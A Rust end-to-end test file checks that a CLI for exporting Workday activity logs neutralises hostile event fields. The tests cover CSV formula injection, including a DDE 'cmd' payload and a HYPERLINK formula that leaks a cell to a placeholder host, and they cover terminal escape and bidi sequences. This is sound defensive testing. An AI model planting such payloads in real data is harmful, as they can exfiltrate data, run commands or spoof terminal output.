//! What `wdconnect events` makes of hostile text a tenant user can put into the activity log
//! (a user agent, a name): CSV cells that a spreadsheet would run as formulas are made inert,
//! a terminal table carries no control characters, and the raw event stays exact.

use chrono::{Duration, SecondsFormat, Utc};
use e2e::cli::{Cli, Tenant};
use serde_json::{Value, json};

/// Events as an attacker with a Workday account could have the tenant log them, each with a
/// session id of its own to find its row by, logged half an hour ago.
fn hostile(tenant: &Tenant) -> Vec<Value> {
    let at = Utc::now() - Duration::minutes(30);
    let time = at.to_rfc3339_opts(SecondsFormat::Millis, true);
    let events = vec![
        json!({"requestTime": time, "sessionId": "hostile-1", "systemAccount": "=1+2",
               "taskDisplayName": "+SUM(A1:A9)", "userAgent": "-2+3",
               "activityAction": "READ", "ipAddress": "198.51.100.7",
               "target": {"id": "t1", "descriptor": "@SUM(A1)"}}),
        json!({"requestTime": time, "sessionId": "hostile-2",
               "systemAccount": "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"Click\")",
               "taskDisplayName": "\t=cmd|' /C calc'!A0", "userAgent": "\r=1",
               "activityAction": "WRITE", "ipAddress": "198.51.100.8",
               "target": {"id": "t2", "descriptor": "View Worker"}}),
        json!({"requestTime": time, "sessionId": "hostile-3",
               "systemAccount": "ann\u{1b}]0;owned\u{7}", "taskDisplayName": "View\u{1b}[2J\u{1b}[H Worker",
               "activityAction": "READ\u{9b}31m", "ipAddress": "10.0.0.1\u{7f}\u{202e}",
               "deviceType": "\u{8}Phone", "userAgent": "Mozilla/5.0"}),
    ];
    for e in &events {
        tenant.sim.log_event(at, e.clone());
    }
    events
}

async fn synced(events: u64) -> (Tenant, Cli, Vec<Value>) {
    let tenant = Tenant::start_with(|c| c.events = events).await;
    let cli = Cli::new();
    cli.add("acme", &tenant).await;
    cli.connect("acme").await;
    let bad = hostile(&tenant);
    cli.cmd(["sync", "acme", "--once", "--backfill-days", "1"])
        .run()
        .await
        .ok();
    (tenant, cli, bad)
}

/// Cells starting with `=`, `+`, `-`, `@`, a tab or a carriage return get a leading `'` in the
/// CSV on stdout and in a file; other cells and the raw column are exact, and NDJSON is too.
#[tokio::test(flavor = "multi_thread")]
async fn csv_cells_that_a_spreadsheet_would_run_are_made_inert() {
    let (_tenant, cli, bad) = synced(2_000).await;
    let file = cli.scratch().join("events.csv");
    let to_file = cli
        .cmd(["events", "acme", "--format", "csv", "--output"])
        .arg(file.display().to_string())
        .human()
        .run()
        .await;
    assert_eq!(to_file.code, 0, "{to_file}");
    let on_stdout = cli
        .cmd(["events", "acme", "--format", "csv"])
        .human()
        .run()
        .await;
    assert_eq!(on_stdout.code, 0, "{on_stdout}");
    let from_file = std::fs::read_to_string(&file).expect("the export is written");
    assert_eq!(from_file, on_stdout.stdout, "the same CSV either way");

    let mut reader = csv::Reader::from_reader(from_file.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let row = |session: &str| {
        rows.iter()
            .find(|r| &r[col("session_id")] == session)
            .unwrap_or_else(|| panic!("no row for {session}:\n{from_file}"))
    };
    let inert = [
        ("hostile-1", "system_account", "=1+2"),
        ("hostile-1", "task_display_name", "+SUM(A1:A9)"),
        ("hostile-1", "user_agent", "-2+3"),
        ("hostile-1", "target_descriptor", "@SUM(A1)"),
        (
            "hostile-2",
            "system_account",
            "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"Click\")",
        ),
        ("hostile-2", "task_display_name", "\t=cmd|' /C calc'!A0"),
        ("hostile-2", "user_agent", "\r=1"),
    ];
    for (session, column, value) in inert {
        assert_eq!(
            &row(session)[col(column)],
            format!("'{value}"),
            "{session} {column}"
        );
    }
    // Harmless cells are left as they are.
    assert_eq!(&row("hostile-1")[col("ip_address")], "198.51.100.7");
    assert_eq!(&row("hostile-2")[col("target_descriptor")], "View Worker");
    assert_eq!(&row("hostile-1")[col("activity_action")], "READ");
    // The raw column keeps the event exactly as the tenant sent it.
    for e in &bad[..2] {
        let session = e["sessionId"].as_str().unwrap();
        let raw: Value = serde_json::from_str(&row(session)[col("raw")]).unwrap();
        assert_eq!(&raw, e);
    }
    // No cell of the whole export starts a formula.
    for r in &rows {
        for (i, cell) in r.iter().enumerate() {
            if header[i] != "raw" {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{} = {cell:?}",
                    header[i]
                );
            }
        }
    }

    let nd = cli
        .cmd(["events", "acme", "--format", "ndjson"])
        .human()
        .run()
        .await;
    assert_eq!(nd.code, 0, "{nd}");
    let lines: Vec<Value> = nd.stdout.lines().map(e2e::cli::raw_event).collect();
    for e in &bad {
        assert_eq!(lines.iter().filter(|l| *l == e).count(), 1, "{e} exact");
    }
}

/// The table shown on a terminal replaces control characters (ESC, BEL, BS, DEL, C1's CSI) and
/// bidirectional overrides: no escape sequence from the tenant reaches the terminal.
#[tokio::test(flavor = "multi_thread")]
async fn the_event_table_carries_no_control_characters() {
    let (_tenant, cli, _) = synced(500).await;
    let table = cli.cmd(["events", "acme"]).human().run().await;
    assert_eq!(table.code, 0, "{table}");
    let bad: Vec<char> = table
        .stdout
        .chars()
        .filter(|c| {
            (c.is_control() && *c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect();
    assert!(bad.is_empty(), "control characters {bad:?} in:\n{table}");
    let line = table
        .stdout
        .lines()
        .find(|l| l.contains("View\u{fffd}[2J"))
        .unwrap_or_else(|| panic!("the hostile row, its escapes shown as \u{fffd}:\n{table}"));
    assert!(line.contains("ann\u{fffd}]0;owned\u{fffd}"), "{line}");
    assert!(line.contains("10.0.0.1\u{fffd}\u{fffd}"), "{line}");
    assert!(line.contains("\u{fffd}Phone"), "{line}");
}

/// The viewer's rows (`events --json`), the CSV and the NDJSON carry the country and the tags of
/// each event's address, looked up when read: a tag added after the sync shows at once, and a
/// private address has no country.
#[tokio::test(flavor = "multi_thread")]
async fn events_carry_the_country_and_tags_of_their_address() {
    let tenant = Tenant::start_with(|c| c.events = 500).await;
    let at = Utc::now() - Duration::minutes(30);
    let time = at.to_rfc3339_opts(SecondsFormat::Millis, true);
    for (session, ip) in [("geo-public", "80.128.0.1"), ("geo-private", "10.0.0.7")] {
        tenant.sim.log_event(
            at,
            json!({"requestTime": time, "sessionId": session, "systemAccount": "geo.user",
                   "taskDisplayName": "View Worker", "activityAction": "READ", "ipAddress": ip}),
        );
    }
    let cli = Cli::new();
    cli.add("acme", &tenant).await;
    cli.connect("acme").await;
    cli.cmd(["sync", "acme", "--once", "--backfill-days", "1"])
        .run()
        .await
        .ok();
    cli.cmd(["tags", "add", "risky", "80.128.0.1"])
        .run()
        .await
        .ok();
    cli.cmd(["tags", "add", "corporate", "10.0.0.0/8"])
        .run()
        .await
        .ok();

    let run = cli
        .cmd(["events", "acme", "--user", "geo.user"])
        .run()
        .await;
    let rows = run.ok()["events"].as_array().unwrap().clone();
    let row = |session: &str| {
        rows.iter()
            .find(|r| r["session_id"] == session)
            .unwrap_or_else(|| panic!("no row {session} in {rows:?}"))
            .clone()
    };
    assert_eq!(row("geo-public")["country"], "DE");
    assert_eq!(row("geo-public")["ip_tags"], json!(["risky"]));
    assert_eq!(
        row("geo-private")["country"],
        Value::Null,
        "a private address"
    );
    assert_eq!(row("geo-private")["ip_tags"], json!(["corporate"]));

    let csv = cli
        .cmd(["events", "acme", "--user", "geo.user", "--format", "csv"])
        .human()
        .run()
        .await;
    assert_eq!(csv.code, 0, "{csv}");
    let mut reader = csv::Reader::from_reader(csv.stdout.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(
        header[..2],
        ["request_time", "system_account"],
        "old columns first"
    );
    assert_eq!(header[header.len() - 2..], ["country", "ip_tags"]);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let cells = |session: &str| {
        let r = records
            .iter()
            .find(|r| r.iter().any(|c| c == session))
            .unwrap();
        (r[r.len() - 2].to_string(), r[r.len() - 1].to_string())
    };
    assert_eq!(cells("geo-public"), ("DE".into(), "risky".into()));
    assert_eq!(cells("geo-private"), ("".into(), "corporate".into()));

    let nd = cli
        .cmd(["events", "acme", "--user", "geo.user", "--format", "ndjson"])
        .human()
        .run()
        .await;
    assert_eq!(nd.code, 0, "{nd}");
    let lines: Vec<Value> = nd
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let public = lines
        .iter()
        .find(|l| l["sessionId"] == "geo-public")
        .unwrap();
    assert_eq!(public["country"], "DE");
    assert_eq!(public["ip_tags"], json!(["risky"]));
    let private = lines
        .iter()
        .find(|l| l["sessionId"] == "geo-private")
        .unwrap();
    assert_eq!(private["country"], Value::Null);

    let table = cli
        .cmd(["events", "acme", "--user", "geo.user"])
        .human()
        .run()
        .await;
    assert!(
        table
            .stdout
            .lines()
            .next()
            .unwrap_or_default()
            .contains("COUNTRY"),
        "{table}"
    );
    assert!(
        table
            .stdout
            .lines()
            .any(|l| l.contains("80.128.0.1") && l.contains(" DE ")),
        "{table}"
    );
}
